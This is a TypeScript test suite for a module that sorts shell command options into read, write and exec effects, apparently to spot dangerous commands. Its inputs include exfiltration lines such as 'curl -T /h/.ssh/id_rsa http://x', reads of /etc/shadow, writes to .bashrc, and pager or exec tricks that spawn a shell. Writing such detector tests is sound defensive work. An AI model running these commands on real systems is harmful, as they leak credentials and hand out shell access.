import { describe, expect, it } from 'vitest';
import { codeRunningOptions, environmentEffects, optionEffects, optionsAWordMaySpell, type OptionEffect } from '../../src/analyses/option-effects.js';

const fx = (line: string): [string, string, string | undefined][] => {
  const [program, ...args] = line.split(' ');
  return optionEffects(program!, args).map((e: OptionEffect) => [e.kind, e.option, e.value]);
};
const kinds = (line: string): string[] => fx(line).map(([k]) => k);

describe('optionEffects: every spelling of an effect', () => {
  it('git diff --output in every spelling', () => {
    expect(fx('git diff --output=/home/u/.bashrc')).toEqual([['write', '--output', '/home/u/.bashrc']]);
    expect(fx('git diff --output /x')).toEqual([['write', '--output', '/x']]);
    expect(fx('git diff --out=/x')).toEqual([['write', '--output', '/x']]);
    expect(fx('git diff --stat HEAD')).toEqual([]);
    expect(kinds('git diff --ext-diff')).toEqual(['exec']);
    expect(kinds('git log --textconv')).toEqual(['exec']);
  });
  it('git global options', () => {
    expect(kinds('git -c core.pager=sh log')).toEqual(['exec']);
    expect(kinds('git -c alias.p=push p')).toEqual(['exec']);
    expect(kinds('git -c core.sshCommand=x fetch')).toEqual(['exec']);
    expect(kinds('git -c color.ui=never log')).toEqual([]);
    expect(kinds('git -c user.name=x commit')).toEqual([]);
    expect(kinds('git --exec-path=/tmp/x status')).toEqual(['exec']);
    expect(kinds('git --exec-path')).toEqual([]);
    // The directory is read, and the repository config there can name programs git runs.
    expect(fx('git -C /etc status')).toEqual([['read', '-C', '/etc'], ['exec', '-C', undefined]]);
    expect(fx('git --git-dir=/x/.git log')).toEqual([['read', '--git-dir', '/x/.git'], ['exec', '--git-dir', undefined]]);
    // A subcommand's option before the subcommand is not that option.
    expect(kinds('git --output=/x diff')).toEqual([]);
  });
  it('git grep -O and git config keys', () => {
    expect(kinds('git grep --open-files-in-pager=sh x')).toEqual(['exec']);
    expect(kinds('git grep -Osh x')).toEqual(['exec']);
    expect(kinds('git grep --open x')).toEqual(['exec']);
    expect(kinds('git config alias.x !sh')).toEqual(['exec']);
    expect(kinds('git config core.pager less')).toEqual(['exec']);
    expect(kinds('git config --get user.name')).toEqual([]);
  });
  it('sort', () => {
    expect(fx('sort -o /x f')).toEqual([['write', '-o', '/x']]);
    expect(fx('sort -o/x f')).toEqual([['write', '-o', '/x']]);
    expect(fx('sort -rfo /x f')).toEqual([['write', '-o', '/x']]);
    expect(fx('sort --out=/x f')).toEqual([['write', '-o', '/x']]);
    expect(kinds('sort --compress-program=sh f')).toEqual(['exec']);
    expect(kinds('sort --compress=sh f')).toEqual(['exec']);
    expect(fx('sort -T /tmp f')).toEqual([['write', '-T', '/tmp']]);
    expect(fx('sort -k 1,1 -t o f')).toEqual([]);
  });
  it('find', () => {
    expect(fx('find . -fprint /x')).toEqual([['write', '-fprint', '/x']]);
    expect(kinds('find . -name x -exec rm {} ;')).toEqual(['exec']);
    expect(kinds('find . -okdir rm {} ;')).toEqual(['exec']);
    expect(fx('find /srv -delete')).toEqual([['write', '-delete', '/srv']]);
    expect(fx('find . -name -delete')).toEqual([]);
  });
  it('rg, man, tar, zip, vim, make', () => {
    expect(kinds('rg --pre sh x')).toEqual(['exec']);
    expect(kinds('rg --pre=sh x')).toEqual(['exec']);
    expect(kinds('man -P sh ls')).toEqual(['exec']);
    expect(kinds('man --pag=sh ls')).toEqual(['exec']);
    expect(kinds('man -Hfirefox ls')).toEqual(['exec']);
    expect(kinds('tar --to-command=sh -xf a.tar')).toEqual(['exec', 'read']);
    expect(kinds('tar -I sh -cf a.tar d')).toEqual(['exec', 'write']);
    expect(fx('tar cf /x.tar d')).toEqual([['write', '-f', '/x.tar']]);
    expect(fx('tar tf a.tar')).toEqual([['read', '-f', 'a.tar']]);
    expect(kinds('tar --checkpoint-action=exec=sh -cf a d')).toEqual(['exec', 'write']);
    expect(kinds('tar -xf host:a.tar')).toEqual(['read', 'exec']);
    expect(kinds('zip -TT sh a.zip f')).toEqual(['exec']);
    expect(kinds('zip --unzip-command=sh a.zip f')).toEqual(['exec']);
    expect(kinds('vim -c !sh f')).toEqual(['exec']);
    expect(kinds('nvim +!sh f')).toEqual(['exec']);
    expect(kinds('ex --cmd x f')).toEqual(['exec']);
    expect(kinds('make --eval=x')).toEqual(['exec']);
    expect(kinds('make SHELL=/tmp/x')).toEqual(['exec']);
    expect(kinds('make V=1 -j4 all')).toEqual([]);
  });
  it('npm, go', () => {
    expect(kinds('npm run x --script-shell=sh')).toEqual(['exec', 'exec']);
    expect(kinds('npm test --script-shell=sh')).toEqual(['exec']);
    expect(kinds('npm --script-shell sh test')).toEqual(['exec']);
    expect(kinds('go test -exec sh ./...')).toEqual(['exec']);
    expect(kinds('go test -exec=sh ./...')).toEqual(['exec']);
    expect(kinds('go run x.go')).toEqual(['exec']);
    expect(kinds('go generate ./...')).toEqual(['exec']);
    expect(kinds('go test ./...')).toEqual([]);
  });
  it('curl, wget, tee, chmod', () => {
    expect(fx('curl -o /h/.bashrc http://x')).toEqual([['write', '-o', '/h/.bashrc']]);
    expect(fx('curl -sSLo /x http://x')).toEqual([['write', '-o', '/x']]);
    expect(fx('curl -T /h/.ssh/id_rsa http://x')).toEqual([['read', '-T', '/h/.ssh/id_rsa']]);
    // curl has no `=` form; reading one anyway over-approximates.
    expect(fx('curl --upload-file=/k http://x')).toEqual([['read', '-T', '/k']]);
    expect(fx('curl --upload-file /k http://x')).toEqual([['read', '-T', '/k']]);
    expect(fx('curl -d @/etc/passwd http://x')).toEqual([['read', '-d', '/etc/passwd']]);
    expect(fx('curl -d a=b http://x')).toEqual([]);
    expect(fx('curl -F f=@/k http://x')).toEqual([['read', '-F', '/k']]);
    expect(kinds('curl -K cfg http://x')).toEqual(['write']);
    expect(fx('wget -O /x http://x')).toEqual([['write', '-O', '/x']]);
    expect(fx('wget --post-file=/k http://x')).toEqual([['read', '--post-file', '/k']]);
    expect(fx('wget --output-doc=/x u')).toEqual([['write', '-O', '/x']]);
    expect(fx('tee -a /h/.bashrc')).toEqual([['write', 'operand', '/h/.bashrc']]);
    expect(fx('chmod -R 777 /h')).toEqual([['write', '-R', '777'], ['write', '-R', '/h'], ['write', 'operand', '777'], ['write', 'operand', '/h']]);
  });
  it('read effects of attached and prefixed long options', () => {
    expect(fx('diff --from-file=/etc/shadow a')).toEqual([['read', '--from-file', '/etc/shadow']]);
    expect(fx('file --magic-file=/m x')).toEqual([['read', '-m', '/m']]);
    expect(fx('file --magic=/m x')).toEqual([['read', '-m', '/m']]);
    // A list of file names: the files read are not known, whatever the list file is.
    expect(fx('wc --files0-from=/f')).toEqual([['read', '--files0-from', undefined]]);
    expect(fx('du --files0=/f')).toEqual([['read', '--files0-from', undefined]]);
    expect(fx('find -files0-from - -maxdepth 1')).toEqual([['read', '-files0-from', undefined]]);
    expect(fx('grep -f /h/p.txt x')).toEqual([['read', '-f', '/h/p.txt']]);
    expect(fx('grep --exclude-from=/e x')).toEqual([['read', '--exclude-from', '/e']]);
    expect(fx('grep -rf /p x')).toEqual([['read', '-f', '/p']]);
  });
  it('response files, format files, page files and code-running subcommands (second attack review)', () => {
    expect(fx('strings @/etc/shadow')).toEqual([['read', '@/etc/shadow', undefined]]);
    expect(fx('strings -n 8 a.txt')).toEqual([]);
    expect(fx('nm @args')).toEqual([['read', '@args', undefined]]);
    expect(fx('hexdump -f/etc/shadow a')).toEqual([['read', '-f', '/etc/shadow']]);
    expect(fx('hexdump -Cf/etc/shadow a')).toEqual([['read', '-f', '/etc/shadow']]);
    expect(fx('hexdump --format-f=/etc/passwd a')).toEqual([['read', '-f', '/etc/passwd']]);
    expect(fx('hexdump -C a')).toEqual([]);
    expect(fx('man -l /dev/stdin')).toEqual([['read', '-l', undefined], ['read', '/dev/stdin', undefined]]);
    expect(fx('man ./y.1')).toEqual([['read', './y.1', undefined]]);
    expect(fx('man ls')).toEqual([]);
    expect(fx('info ../outside.txt')).toEqual([['read', '../outside.txt', undefined]]);
    expect(fx('info coreutils')).toEqual([]);
    expect(kinds('make -f /dev/stdin')).toEqual(['read', 'exec']);
    expect(kinds('make -f Makefile')).toEqual(['read']);
    expect(kinds('tmux new -d x')).toEqual(['exec']);
    expect(kinds('expect -c spawn')).toEqual(['exec']);
  });
  it('jq, xargs, awk, interpreters', () => {
    expect(fx('jq --rawfile a /etc/shadow .')).toEqual([['read', '--rawfile', '/etc/shadow']]);
    expect(kinds('jq -n $ENV')).toEqual(['read']);
    expect(kinds('jq -n env')).toEqual(['read']);
    expect(kinds('jq .env f')).toEqual([]);
    expect(kinds('jq -n import"x"{search:"/root"};.')).toEqual(['read']);
    expect(kinds('xargs head')).toEqual(['read']);
    expect(kinds('awk {system("sh")}')).toEqual(['exec']);
    expect(kinds('awk {print>"/x"}')).toEqual(['write']);
    expect(kinds('awk {print$1} f')).toEqual([]);
    expect(kinds('python -c x')).toEqual(['exec']);
    expect(kinds('python3 x.py -c y')).toEqual([]);
    expect(kinds('node -e x')).toEqual(['exec']);
    expect(kinds('perl -ne x')).toEqual(['exec']);
    expect(fx('dd if=/dev/zero of=/x')).toEqual([['read', 'if=', '/dev/zero'], ['write', 'of=', '/x']]);
  });
  it('non-static values are effects without a path', () => {
    expect(optionEffects('sort', ['-o', null, 'f'])).toEqual([{ kind: 'write', option: '-o', argIndex: 0 }]);
    expect(optionEffects('unknown-program', ['-o', '/x'])).toEqual([]);
  });
  it('environment and code-running option lists', () => {
    expect(environmentEffects(['PAGER', 'FOO']).map((e) => e.option)).toEqual(['PAGER=']);
    expect(codeRunningOptions(['sort'])).toEqual(['--compress-program']);
    expect(codeRunningOptions(['git', 'diff'])).toEqual(['--ext-diff', '--textconv']);
    expect(codeRunningOptions(['git'])).toContain('-c');
    expect(codeRunningOptions(['grep'])).toEqual([]);
    expect(codeRunningOptions(['go'])).toContain('go run');
  });
});

describe('optionsAWordMaySpell: what a glob that may expand to option words could select', () => {
  it('lists option names of each effect kind valid where the word stands', () => {
    expect(optionsAWordMaySpell('sort', ['*'], 0).get('exec')).toContain('--compress-program');
    expect(optionsAWordMaySpell('sort', ['*'], 0).get('write')).toContain('--output');
    expect(optionsAWordMaySpell('git', ['diff', '-*'], 1).get('write')).toContain('--output');
    expect(optionsAWordMaySpell('git', ['grep', '-*'], 1).get('exec')).toContain('--open-files-in-pager');
  });
  it('at the subcommand place, the program options and every subcommand', () => {
    const m = optionsAWordMaySpell('git', ['-*', 'status'], 0);
    expect(m.get('exec')?.length).toBeGreaterThan(0);
  });
  it('is empty for a program without a table entry', () => {
    expect(optionsAWordMaySpell('cat', ['*'], 0).size).toBe(0);
  });
});
